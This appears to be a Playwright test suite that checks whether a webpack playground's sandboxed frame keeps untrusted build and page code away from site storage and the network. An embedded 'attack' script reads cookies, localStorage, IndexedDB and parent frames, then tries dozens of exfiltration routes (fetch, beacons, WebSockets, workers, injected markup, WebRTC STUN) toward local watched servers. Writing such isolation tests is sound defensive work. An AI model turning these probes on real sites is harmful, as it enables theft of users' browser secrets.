import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test as base } from '@playwright/test';
import { listen } from '../../src/server/listen.ts';
import { createStaticServer } from '../../src/server/static-server.ts';

import { openPlayground, type Project } from './playground-engine.ts';

/** A server of the site, a server and a socket elsewhere, and everything that reaches them with the word `leak`. */
interface Watched {
  readonly site: string;
  readonly elsewhere: string;
  readonly stun: string;
  readonly leaks: string[];
}

const originOf = (server: Server): string => `http://localhost:${(server.address() as AddressInfo).port}`;

const test = base.extend<{ readonly watched: Watched }>({
  watched: async ({ browserName: _unused }, use) => {
    const directory = process.env.E2E_OUT ?? 'dist';
    const leaks: string[] = [];
    const servers = [createStaticServer({ directory }), createServer((_request, response) => void response.end())];
    const [site, elsewhere] = await Promise.all(
      servers.map(async (server) => {
        server.on('request', ({ url = '' }) => url.includes('leak') && leaks.push(`${originOf(server)}${url}`));
        await listen(server, 0);
        return originOf(server);
      }),
    );
    const socket = createSocket('udp4')
      .on('message', () => leaks.push('a packet'))
      .bind(0, '127.0.0.1');
    await once(socket, 'listening');
    await use({ site: site ?? '', elsewhere: elsewhere ?? '', stun: `stun:127.0.0.1:${socket.address().port}`, leaks });
    socket.close();
    for (const server of servers) {
      server.closeAllConnections();
      server.close();
    }
  },
});

/** Tries to get out, and prints what it got, as text, because it runs in the project. */
const attack = ({ site, elsewhere, stun }: Watched): string => `
const urls = ['${site}/leak', '${elsewhere}/leak'];
const nothing = () => { throw new Error('nothing'); };
const got = (value) => value ?? nothing();
const isDone = (request) => new Promise((resolve, reject) => { request.onsuccess = resolve; request.onerror = reject; });
const reads = {
  localStorage: () => got(localStorage.getItem('secret')),
  sessionStorage: () => got(sessionStorage.getItem('secret')),
  cookie: () => got(document.cookie || null),
  cookieStore: () => cookieStore.getAll(),
  caches: () => caches.keys(),
  indexedDB: () => isDone(indexedDB.open('secret')),
  fileSystem: () => navigator.storage.getDirectory(),
  serviceWorker: () => navigator.serviceWorker.getRegistrations(),
  registration: () => navigator.serviceWorker.register('${site}/sw.js'),
  parent: () => parent === self ? nothing() : parent.document.title,
  parentAddress: () => parent === self ? nothing() : parent.location.href,
  grandparent: () => parent.parent === parent ? nothing() : parent.parent.document.title,
  top: () => top.document.title,
  opener: () => got(opener).document.title,
  popup: () => got(open(urls[1])),
  origin: () => self.origin === 'null' ? nothing() : self.origin,
  freshGlobals: () => { const frame = document.createElement('iframe'); document.body.append(frame); return frame.contentWindow.RTCPeerConnection; },
};
const sends = {
  fetch: (url) => fetch(url),
  noCors: (url) => fetch(url, { mode: 'no-cors' }),
  xhr: (url) => { const request = new XMLHttpRequest(); request.open('GET', url, false); request.send(); },
  webSocket: (url) => new WebSocket(url.replace('http', 'ws')),
  eventSource: (url) => new EventSource(url),
  beacon: (url) => navigator.sendBeacon(url),
  importScripts: (url) => importScripts(url),
  import: (url) => import(url),
  evalImport: (url) => (0, eval)('import("' + url + '")'),
  worker: (url) => new Worker(url),
  sharedWorker: (url) => new SharedWorker(url),
  nestedWorker: (url) => new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '"); importScripts("' + url + '")']))),
  image: (url) => { new Image().src = url; },
  preconnect: (url) => document.head.insertAdjacentHTML('beforeend', '<link rel="preload" as="image" href="' + url + '"><link rel="prefetch" href="' + url + '"><link rel="stylesheet" href="' + url + '"><link rel="modulepreload" href="' + url + '"><link rel="icon" href="' + url + '"><link rel="manifest" href="' + url + '">'),
  markup: (url) => document.body.insertAdjacentHTML('beforeend', '<img src="' + url + '"><object data="' + url + '"></object><embed src="' + url + '"><video src="' + url + '" autoplay></video><iframe src="' + url + '"></iframe><div style="background: url(' + url + ')">x</div><style>@import "' + url + '"; @font-face { font-family: x; src: url("' + url + '") } body { font-family: x }</style>'),
  script: (url) => { const script = document.createElement('script'); script.src = url; document.head.append(script); },
  form: (url) => { const form = document.createElement('form'); form.action = url; document.body.append(form); form.submit(); },
  link: (url) => { const link = document.createElement('a'); link.href = url; link.ping = url; document.body.append(link); link.click(); link.target = '_top'; link.click(); link.target = '_blank'; link.click(); link.download = ''; link.click(); },
  rtc: () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); },
  parentMessage: () => parent.parent.postMessage({ kind: 'need', name: 'webpack', url: '/leak' }, '*'),
  askedPart: (url) => { (self.document ? parent : self).postMessage({ kind: 'need', name: url, url }, ...(self.document ? ['*'] : [])); },
  topNavigation: (url) => { top.location.href = url; },
  parentNavigation: (url) => { parent.location.href = url; },
  refresh: (url) => document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0; url=' + url + '">'),
  navigation: (url) => { location.href = url; },
};
const results = (async () => {
  const open = [];
  for (const [name, read] of Object.entries(reads)) {
    const timeout = new Promise((_, reject) => setTimeout(reject, 1000));
    try { await Promise.race([Promise.resolve().then(read), timeout]); open.push(name); } catch {}
  }
  console.log('open: ' + JSON.stringify(open));
  for (const url of urls) for (const [name, send] of Object.entries(sends)) try { Promise.resolve(send(url + '?' + name)).catch(() => {}); } catch {}
})();`;

const places: Readonly<Record<string, (code: string) => Project>> = {
  configuration: (code) => ({
    'webpack.config.cjs': `${code}\nmodule.exports = async () => { await results; return { mode: 'development' }; };`,
    'src/index.js': '',
  }),
  plugin: (code) => ({
    'plugin.cjs': `module.exports = { apply: (compiler) => compiler.hooks.beforeRun.tapPromise('attack', async () => { ${code} await results; }) };`,
    'webpack.config.mjs': `import plugin from './plugin.cjs'; export default { mode: 'development', plugins: [plugin] };`,
    'src/index.js': '',
  }),
  loader: (code) => ({
    'loader.mjs': `export default async function (source) { ${code} await results; return source; }`,
    'webpack.config.cjs': `module.exports = { mode: 'development', module: { rules: [{ use: './loader.mjs' }] } };`,
    'src/index.js': '',
  }),
  'running page': (code) => ({
    'webpack.config.cjs': `module.exports = { mode: 'development', devtool: false };`,
    'src/index.js': code,
  }),
};

/** What an attacker would like to have. */
async function plantSecrets(page: Page): Promise<void> {
  await page.evaluate(async () => {
    localStorage.setItem('secret', 'x');
    sessionStorage.setItem('secret', 'x');
    document.cookie = 'secret=x';
    await caches.open('secret');
  });
}

for (const [place, projectWith] of Object.entries(places))
  test(`code in a ${place} can't reach the site or a network`, async ({ page, watched, context }) => {
    await page.goto(`${watched.site}/playground/`);
    await plantSecrets(page);
    const playground = await openPlayground(page);
    await playground.build(projectWith(attack(watched)));
    if (place === 'running page') await playground.run('main.js');
    await expect.poll(() => playground.lines()).toContainEqual('open: []');
    await page.waitForTimeout(1500);
    expect(watched.leaks).toEqual([]);
    expect(page.url()).toBe(`${watched.site}/playground/`);
    expect(context.pages()).toHaveLength(1);
  });

test('the servers would notice a leak', async ({ page, watched }) => {
  await page.goto(`${watched.site}/playground/`);
  await plantSecrets(page);
  const elsewhere = await page.context().newPage();
  await elsewhere.goto(`${watched.elsewhere}/`);
  const lines: string[] = [];
  elsewhere.on('console', (message) => lines.push(message.text()));
  await elsewhere.addScriptTag({ content: attack(watched) }).catch(() => undefined);
  await expect.poll(() => lines.join()).toContain('fileSystem');
  await expect
    .poll(() => watched.leaks.filter((leak) => leak.startsWith(watched.elsewhere) || leak === 'a packet').length)
    .toBeGreaterThan(1);
  await expect.poll(() => watched.leaks.some((leak) => leak.startsWith(`${watched.site}/leak`))).toBe(true);
});

test('the frame runs nothing when it is opened directly, or in another frame', async ({ page, watched }) => {
  await page.goto(`${watched.site}/playground/frame/`);
  expect(await page.evaluate(() => self.origin)).toBe('null');
  await page.goto(`${watched.site}/playground/`);
  const heard = await page.evaluate(async () => {
    const messages: unknown[] = [];
    addEventListener('message', ({ data }) => messages.push(data));
    const middle = document.createElement('iframe');
    document.body.append(middle);
    // oxlint-disable-next-line react/iframe-missing-sandbox -- the frame has its own
    const inner = middle.contentDocument?.createElement('iframe');
    if (!inner) throw new Error('no frame');
    inner.src = '/playground/frame/';
    middle.contentDocument?.body.append(inner);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    return messages;
  });
  expect(heard).toEqual([]);
});

test('the page and the frame have their own policies, and no other document embeds anything', async ({ request, watched }) => {
  const policyOf = async (path: string): Promise<string> =>
    (await request.get(`${watched.site}${path}`)).headers()['content-security-policy'] ?? '';
  const frame = await policyOf('/playground/frame/');
  expect(frame).toMatch(/^sandbox allow-scripts; default-src 'none'; script-src 'unsafe-eval' blob: 'sha256-[^']+'; /);
  expect(frame).not.toMatch(/'self'(?!$)|https?:|\*/);
  expect(await policyOf('/playground/')).toBe(`${await policyOf('/')}; frame-src 'self'`);
  expect(await policyOf('/guides/')).toBe(await policyOf('/'));
});

test('the time limit ends an endless loop', async ({ page, watched }) => {
  await page.clock.install();
  await page.goto(`${watched.site}/playground/`);
  const playground = await openPlayground(page);
  const endless = { 'webpack.config.js': 'for (;;);', 'src/index.js': '' };
  const limited = playground.build(endless);
  await page.waitForTimeout(500);
  await page.clock.fastForward(30_000);
  expect(await limited).toMatchObject({ kind: 'failed', text: expect.stringContaining('30 seconds') });
  expect(await playground.build({ 'webpack.config.js': 'export default {}', 'src/index.js': '' })).toMatchObject({
    kind: 'built',
  });
});

test('a host that sends no policy of its own has no playground, and the page says so', async ({ page, watched }) => {
  for (const policy of [
    undefined,
    "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'",
    "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-eval' blob: 'sha256-of-another-build'; frame-ancestors 'self'",
  ]) {
    await page.route('**/playground/**', async (route) => {
      const response = await route.fetch();
      const headers = { ...response.headers() };
      delete headers['content-security-policy'];
      await route.fulfill({
        response,
        headers: policy === undefined ? headers : { ...headers, 'content-security-policy': policy },
      });
    });
    await page.goto(`${watched.site}/playground/`);
    const playground = await openPlayground(page);
    const project = { 'webpack.config.js': 'console.log("ran")', 'src/index.js': '' };
    expect(await playground.build(project)).toMatchObject({
      kind: 'failed',
      text: expect.stringContaining("can't run here"),
    });
    expect(playground.lines()).not.toContain('ran');
    await page.unroute('**/playground/**');
  }
});
